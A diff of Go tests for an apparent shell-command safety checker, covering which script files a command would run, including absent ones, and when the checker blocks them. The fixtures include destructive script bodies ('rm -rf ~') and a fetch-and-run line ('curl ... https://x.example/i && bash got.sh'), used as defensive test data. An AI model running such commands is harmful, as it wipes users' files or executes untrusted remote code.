@@ -210,9 +210,25 @@ func TestScriptFilesRead(t *testing.T) {
 		assert.Equal(t, []Script{
 			{Path: "/home/dev/work/proj/a.sh", SHA256: sha256.Sum256([]byte("rm -rf ~\n"))},
 			{Path: "/home/dev/work/proj/bin/big", SHA256: sha256.Sum256([]byte("#!/bin/sh\necho hi\n"))},
+			{Path: "/home/dev/work/proj/missing.sh", Absent: true}, // another call may write it first
 			{Path: "/home/dev/work/proj/quiet.sh", SHA256: sha256.Sum256([]byte("echo hi\n"))},
 		}, res.Scripts)
-		assert.Empty(t, a.Command("bash missing.sh; go vet ./...", testEnv()).Scripts)
+		assert.Equal(t, []Script{{Path: "/home/dev/work/proj/missing.sh", Absent: true}}, a.Command("bash missing.sh; go vet ./...", testEnv()).Scripts)
+		assert.Empty(t, a.Command("go vet ./...", testEnv()).Scripts) // (nothing of the call before)
+		// A runner's files when none is there: the one another call
+		// writes first is read; when one is, it is bound alone.
+		assert.Equal(t, []Script{
+			{Path: "/home/dev/work/proj/GNUmakefile", Absent: true},
+			{Path: "/home/dev/work/proj/Makefile", Absent: true},
+			{Path: "/home/dev/work/proj/makefile", Absent: true},
+		}, a.Command("make", testEnv()).Scripts)
+		assert.Len(t, a.Command("just build", testEnv()).Scripts, 4) // justfile, Justfile, .justfile, JUSTFILE: none there
+		assert.Equal(t, []Script{{Path: "/home/dev/work/proj/m/Makefile", SHA256: sha256.Sum256([]byte("all:\n\trm -rf ~\n"))}}, a.Command("make -C m", testEnv()).Scripts)
+		// A file outside the roots and the temporary folders is not read,
+		// and its absence is not listed either; nor is a file the command
+		// writes itself.
+		assert.Empty(t, a.Command("bash /home/dev/other/none.sh; echo hi > w.sh; bash w.sh", testEnv()).Scripts)
+		assert.Equal(t, []Script{{Path: "/home/dev/work/proj/none.py", Absent: true}}, a.Command("python3 none.py", testEnv()).Scripts)
 	})
 	t.Run("a file outside the roots is not read at all", func(t *testing.T) {
 		judge("bash /home/dev/other/a.sh")
@@ -399,12 +415,34 @@ func TestAFileKnownMissingIsNotRead(t *testing.T) {
 	}
 	env := testEnv()
 	env.Missing = func(abs string) bool { return abs == "/home/dev/work/proj/gone.sh" }
-	if res := a.Command("bash gone.sh", env); len(res.Findings) != 0 || len(reads) != 0 || len(res.Scripts) != 0 {
-		t.Errorf("bash gone.sh, known missing: findings %v, reads %v, scripts %v; want none", res.Findings, reads, res.Scripts)
+	if res := a.Command("bash gone.sh", env); len(res.Findings) != 0 || len(reads) != 0 ||
+		!slices.Equal(res.Scripts, []Script{{Path: "/home/dev/work/proj/gone.sh", Absent: true}}) {
+		t.Errorf("bash gone.sh, known missing: findings %v, reads %v, scripts %v; want none, none, gone.sh absent", res.Findings, reads, res.Scripts)
 	}
 	res := a.Command("bash there.sh", env)
 	if f, ok := res.Worst(); !ok || f.Severity != Block || !slices.Equal(reads, []string{"/home/dev/work/proj/there.sh"}) {
 		t.Errorf("bash there.sh: worst %+v, reads %v; want the file read and blocked", f, reads)
+	}
+	// A file known missing that the command runs by its name, through
+	// its standard input or as an interactive shell's start file is
+	// listed absent; one it makes or copies itself, or one outside the
+	// places scripts are read, is not.
+	env.Missing = func(abs string) bool { return !strings.HasSuffix(abs, "/there.sh") }
+	gone := []Script{{Path: "/home/dev/work/proj/gone.sh", Absent: true}}
+	for cmd, want := range map[string][]Script{
+		"sh < gone.sh":                                      gone,
+		"bash --rcfile gone.sh -i":                          gone,
+		"echo hi > made.sh; bash made.sh":                   nil,
+		"bash /home/dev/other/gone.sh":                      nil,
+		"cp there.sh copy.sh; bash copy.sh":                 {{Path: "/home/dev/work/proj/there.sh", SHA256: sha256.Sum256([]byte("rm -rf ~\n"))}},
+		"curl -o got.sh https://x.example/i && bash got.sh": nil,
+		"node gone.js --port 80":                            {{Path: "/home/dev/work/proj/gone.js", Absent: true}}, // (80 is no file's name)
+		"php -d auto_prepend_file=gone.php -r 'echo 1;'":    {{Path: "/home/dev/work/proj/gone.php", Absent: true}},
+		"bash g*.sh": nil, // a pattern matches what is there when it runs (patternOnDisk)
+	} {
+		if got := a.Command(cmd, env).Scripts; !slices.Equal(got, want) {
+			t.Errorf("%s: scripts %v, want %v", cmd, got, want)
+		}
 	}
 }
 
